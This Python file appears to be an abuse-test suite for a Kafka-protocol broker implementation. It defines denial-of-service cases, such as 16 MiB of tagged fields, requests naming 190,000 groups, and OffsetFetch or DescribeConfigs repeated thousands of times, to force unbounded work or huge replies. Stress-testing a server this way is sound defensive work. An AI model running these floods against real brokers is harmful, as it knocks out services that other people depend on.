"""Attacks by small questions: answers that are far larger, and lists that are walked again and again."""

from __future__ import annotations

from kproto.messages.api_versions import ApiVersionsRequest
from kproto.messages.delete_groups import DeleteGroupsRequest
from kproto.messages.describe_configs import DescribeConfigsRequest, DescribeConfigsResource
from kproto.messages.describe_groups import DescribeGroupsRequest
from kproto.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from kproto.messages.offset_fetch import (
    OffsetFetchRequest,
    OffsetFetchRequestGroup,
    OffsetFetchRequestTopic,
    OffsetFetchRequestTopics,
)
from tools.trials.abuse.attack import Attacks, Site, Steps, answer_or_cut, drain, drain_reply, framed
from tools.trials.abuse.members import commit, join

ATTACKS = Attacks()

REPLY = "a reply without a bound"
TURN = "work without end in one turn"
MOST_READ = 512 << 20
BROKER = 4


@ATTACKS.add("16 MiB of tagged fields in ApiVersions", TURN)
def tagged_fields(site: Site) -> Steps:
    """Fields that the receiver does not know, as many as fit: four million of four bytes."""
    body = framed(ApiVersionsRequest(client_software_name="abuse", client_software_version="1"), 3)[4:-1]
    count = 4 << 20
    field = b"\x64\x02ab"
    size = bytearray()
    value = count
    while value > 127:
        size.append(value & 127 | 128)
        value >>= 7
    size.append(value)
    frame = body + bytes(size) + field * count
    peer = site.socket()
    yield
    peer.sendall(len(frame).to_bytes(4, "big") + frame)
    drain(peer, 1 << 20)


@ATTACKS.add("DescribeGroups of 190,000 names", TURN)
def describe_many(site: Site) -> Steps:
    """Groups that do not exist."""
    request = DescribeGroupsRequest(groups=[f"g{number}" for number in range(190_000)])
    client = site.client()
    yield
    answer_or_cut(client, request, 5)


@ATTACKS.add("DeleteGroups of 190,000 names", TURN)
def delete_many(site: Site) -> Steps:
    """Groups that do not exist."""
    request = DeleteGroupsRequest(groups_names=[f"g{number}" for number in range(190_000)])
    client = site.client()
    yield
    answer_or_cut(client, request, 2)


@ATTACKS.add("OffsetFetch of 60,000 groups", TURN)
def offsets_of_many(site: Site) -> Steps:
    """Groups that do not exist."""
    groups = [OffsetFetchRequestGroup(group_id=f"g{number}", topics=None) for number in range(60_000)]
    client = site.client()
    yield
    answer_or_cut(client, OffsetFetchRequest(groups=groups), 8)


@ATTACKS.add("one partition of a group with 90,000 offsets, 300 times", TURN)
def one_of_many_offsets(site: Site) -> Steps:
    """One request that names a large group 300 times, for one of its partitions each time."""
    group, client = site.group(), site.client()
    for _ in range(10):
        topic = site.topic(9_000)
        for start in range(0, 9_000, 3_000):
            commit(client, group, topic, range(start, start + 3_000))
    wanted = OffsetFetchRequestTopics(name=topic, partition_indexes=[0])
    request = OffsetFetchRequest(groups=[OffsetFetchRequestGroup(group_id=group, topics=[wanted])] * 300)
    yield
    answer_or_cut(client, request, 8)
    for _ in range(300):
        single = OffsetFetchRequestTopic(name=topic, partition_indexes=[0])
        answer_or_cut(client, OffsetFetchRequest(group_id=group, topics=[single]), 7)


@ATTACKS.add("session of 199,000 unknown partitions, asked 200 times", TURN)
def session_of_unknown_partitions(site: Site) -> Steps:
    """An incremental Fetch of 52 bytes whose answer names every partition of the session."""
    client = site.client()
    parts = [FetchPartition(partition=number) for number in range(199_000)]
    full = FetchRequest(
        max_wait_ms=0, max_bytes=1 << 20, session_epoch=0, topics=[FetchTopic(topic="unknown", partitions=parts)]
    )
    reply = answer_or_cut(client, full, 12)
    session = 0 if reply is None else reply.session_id
    yield
    ask = b"".join(
        framed(FetchRequest(max_wait_ms=0, max_bytes=1 << 20, session_id=session, session_epoch=epoch), 12)
        for epoch in range(1, 201)
    )
    client.socket.sendall(ask)
    for _ in range(200):
        drain_reply(client.socket, MOST_READ)


@ATTACKS.add("OffsetFetch of a group with 9,999 offsets, 2,000 times", REPLY)
def offsets_again_and_again(site: Site) -> Steps:
    """A hundred bytes a time bring half a megabyte."""
    group, topic, client = site.group(), site.topic(9_999), site.client()
    for start in range(0, 9_999, 3_333):
        commit(client, group, topic, range(start, start + 3_333))
    request = OffsetFetchRequest(groups=[OffsetFetchRequestGroup(group_id=group, topics=None)] * 2_000)
    yield
    client.socket.sendall(framed(request, 8))
    drain_reply(client.socket, MOST_READ)


@ATTACKS.add("DescribeConfigs of this broker, 10,000 times", REPLY)
def configs_again_and_again(site: Site) -> Steps:
    """Five bytes a time bring a hundred thousand."""
    resource = DescribeConfigsResource(resource_type=BROKER, resource_name="1")
    request = DescribeConfigsRequest(resources=[resource] * 10_000, include_documentation=True, include_synonyms=True)
    client = site.client()
    yield
    client.socket.sendall(framed(request, 4))
    drain_reply(client.socket, MOST_READ)


@ATTACKS.add("DescribeGroups of a group of 12 MB, 1,000 times", REPLY)
def group_again_and_again(site: Site) -> Steps:
    """Three bytes a time bring twelve megabytes."""
    group, client = site.group(), site.client()
    answer_or_cut(client, join(group, metadata=b"m" * (12 << 20)), 3)
    request = DescribeGroupsRequest(groups=[group] * 1_000)
    peer = site.client()
    yield
    peer.socket.sendall(framed(request, 5))
    drain_reply(peer.socket, MOST_READ)
